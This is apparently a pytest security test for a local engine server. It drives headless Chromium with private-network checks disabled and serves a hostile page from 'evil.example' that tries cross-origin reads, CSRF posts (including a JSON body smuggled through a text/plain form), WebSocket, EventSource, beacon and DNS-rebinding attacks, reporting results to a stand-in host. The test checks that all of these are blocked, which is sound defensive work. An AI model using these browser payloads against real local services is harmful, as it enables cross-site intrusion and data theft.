"""A page of somebody else, in a real browser on this machine: it can neither read the server nor make it do anything."""

from __future__ import annotations

import json
import shutil
from collections.abc import AsyncGenerator, Awaitable, Callable
from contextlib import asynccontextmanager
from functools import partial
from pathlib import Path
from typing import Any

import httpx
import pytest
import trio

from engine.control.listen import ServeOptions, serve
from tests.support.served_engine import served

BROWSER = shutil.which("chromium") or shutil.which("chromium-browser")

pytestmark = [
    pytest.mark.os,
    pytest.mark.slow,
    pytest.mark.skipif(BROWSER is None, reason="needs Chromium: apt-get install chromium"),
]

# Every way in which a page can reach another address, with and without permission to read the answer.
ATTACKS = """
const target = "TARGET", out = {};
const body = JSON.stringify({cwd: "/", key: "foreign"});
const tried = async (name, attempt) => { try { out[name] = String(await attempt()); } catch { out[name] = "blocked"; } };
const loaded = (element, url) => new Promise((done) => {
  element.onload = () => done("loaded"); element.onerror = () => done("blocked");
  element.src = url; document.body.append(element);
});
await tried("read", async () => (await fetch(target + "/healthz")).text());
await tried("read data", async () => (await fetch(target + "/v1/sessions")).text());
for (const type of ["text/plain", "application/x-www-form-urlencoded", "application/json"])
  await tried("post " + type, async () => {
    const answer = await fetch(target + "/v1/sessions",
      {method: "POST", mode: "no-cors", credentials: "include", headers: {"Content-Type": type}, body});
    return answer.status + await answer.text();
  });
await tried("header", async () => (await fetch(target + "/v1/sessions", {headers: {Authorization: "Bearer x"}})).text());
await tried("socket", () => new Promise((done) => {
  const socket = new WebSocket(target.replace("http", "ws") + "/v1/socket", ["engine.v1"]);
  socket.onopen = () => done("open"); socket.onerror = () => done("blocked");
}));
await tried("events", () => new Promise((done) => {
  const source = new EventSource(target + "/v1/sessions/none/stream");
  source.onopen = () => done("open"); source.onerror = () => { source.close(); done("blocked"); };
}));
await tried("image", () => loaded(new Image(), target + "/v1/schema.json"));
await tried("script", () => loaded(document.createElement("script"), target + "/healthz"));
await tried("beacon", () => { navigator.sendBeacon(target + "/v1/sessions", body); return "sent"; });
await tried("frame", async () => {
  const frame = document.createElement("iframe");
  await loaded(frame, target + "/");
  return frame.contentDocument ? "read" : "blocked";
});
await tried("form", async () => {
  const frame = document.createElement("iframe");
  frame.name = "sink"; document.body.append(frame);
  const form = document.createElement("form");
  Object.assign(form, {method: "POST", action: target + "/v1/sessions", enctype: "text/plain", target: "sink"});
  const field = document.createElement("input");
  field.name = '{"cwd":"/","key":"form","title":"'; field.value = '"}';
  form.append(field); document.body.append(form);
  const sent = new Promise((done) => { frame.onload = done; });
  form.submit(); await sent;
  return frame.contentDocument ? "read" : "blocked";
});
"""
# Its name leads to the server once it is loaded: for the browser, the server is of the page's own origin then.
REBOUND = """
const out = {};
while (!out.answers) {
  try {
    const answers = [];
    for (const path of ["/", "/healthz", "/v1/sessions"]) answers.push((await fetch(path)).status);
    answers.push((await fetch("/v1/sessions", {method: "POST", headers: {"Content-Type": "application/json"}, body: "{}"})).status);
    await new Promise((done) => {
      const socket = new WebSocket(`ws://${location.host}/v1/socket`);
      socket.onopen = () => done(answers.push("open")); socket.onerror = () => done(answers.push("blocked"));
    });
    out.answers = answers;
  } catch { await new Promise((done) => setTimeout(done, 100)); }
}
"""


def page(script: str, reports: int, name: str) -> bytes:
    """Return a page that runs *script*, and sends what it has found."""
    send = f"await fetch('http://reports.example:{reports}/{name}', {{method: 'POST', mode: 'no-cors', body: JSON.stringify(out)}});"
    text = f"<!doctype html><body><script type='module'>{script}{send}</script>".encode()
    head = f"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nConnection: close\r\nContent-Length: {len(text)}\r\n\r\n"
    return head.encode() + text


@asynccontextmanager
async def website(
    answer: Callable[[str, bytes], Awaitable[bytes]], host: str = "127.0.0.1"
) -> AsyncGenerator[tuple[int, trio.CancelScope]]:
    """Serve what *answer* returns for the first line and the body of a request; yield the port, and what ends it."""

    async def run(stream: trio.SocketStream) -> None:
        data = b""
        while b"\r\n\r\n" not in data or len(data.partition(b"\r\n\r\n")[2]) < length(data):
            piece = await stream.receive_some()
            if not piece:
                return
            data += piece
        await stream.send_all(await answer(data.split(b"\r\n")[0].decode(), data.partition(b"\r\n\r\n")[2]))
        await stream.aclose()

    def length(data: bytes) -> int:
        return int(data.lower().partition(b"content-length:")[2].split(b"\r\n")[0] or 0)

    listeners = await trio.open_tcp_listeners(0, host=host)
    scope = trio.CancelScope()

    async def serve_all() -> None:
        with scope:
            await trio.serve_listeners(run, listeners)

    async with trio.open_nursery() as nursery:
        nursery.start_soon(serve_all)
        yield listeners[0].socket.getsockname()[1], scope
        scope.cancel()


@asynccontextmanager
async def browser(url: str, profile: Path) -> AsyncGenerator[None]:
    """Show *url* in Chromium, for which every name leads to this machine; it is gone when the block ends."""
    assert BROWSER is not None
    # Browsers of today ask before a public page reaches a private address; the server must not need that.
    off = "LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests,PrivateNetworkAccessSendPreflights"
    names = "MAP rebound.example 127.0.0.2,MAP *.example 127.0.0.1"
    options = ["--headless", "--no-sandbox", "--disable-gpu", f"--user-data-dir={profile}", f"--disable-features={off}"]
    command = [BROWSER, *options, f"--host-resolver-rules={names}", "--remote-debugging-port=0", url]
    async with trio.open_nursery() as nursery:
        run = partial(trio.run_process, command, capture_stdout=True, capture_stderr=True, check=False)
        nursery.start_soon(run)
        yield
        nursery.cancel_scope.cancel()


async def test_foreign_page_neither_reads_nor_causes_anything(tmp_path: Path) -> None:
    send, receive = trio.open_memory_channel[tuple[str, dict[str, Any]]](10)
    async with served(tmp_path, seconds=120) as server:

        async def answer(line: str, body: bytes) -> bytes:
            if line.startswith("POST"):
                await send.send((line.split()[1], json.loads(body)))
            script = ATTACKS.replace("TARGET", server.at.url)
            frame = f"const f = document.createElement('iframe'); f.src = 'http://rebound.example:{rebound}/'; document.body.append(f);"
            return page(frame + script, port, "attacks")

        asked: list[str] = []
        runs = trio.Event()

        async def first_answer(line: str, _body: bytes) -> bytes:
            asked.append(line)
            if len(asked) == 1:
                return page(REBOUND, port, "rebound")
            # The page has arrived: this is what its program asks for.
            runs.set()
            return b""

        async with website(answer) as (port, _), website(first_answer, "127.0.0.2") as (rebound, first):
            async with browser(f"http://evil.example:{port}/", tmp_path / "profile"):
                await runs.wait()
                first.cancel()
                # The name has led to somebody else's server; now it leads to ours, at the same port.
                options = ServeOptions(host="127.0.0.2", port=rebound, plain=True)
                await server.nursery.start(serve, server.engine, options)
                reports = dict([await receive.receive(), await receive.receive()])
        assert reports["/rebound"] == {"answers": [421, 421, 421, 421, "blocked"]}
        attacks = reports["/attacks"]
        assert attacks.pop("beacon") == "sent"
        # A request may be sent without leave to read its answer: then it is empty, and has no status.
        posts = [attacks.pop(f"post {kind}") for kind in ("text/plain", "application/x-www-form-urlencoded")]
        assert posts == ["0", "0"]
        assert attacks.pop("post application/json") in {"0", "blocked"}
        assert set(attacks.values()) == {"blocked"}, attacks
        async with httpx.AsyncClient(base_url=server.at.url, headers=server.bearer) as http:
            assert (await http.get("/v1/sessions")).json()["rows"] == []
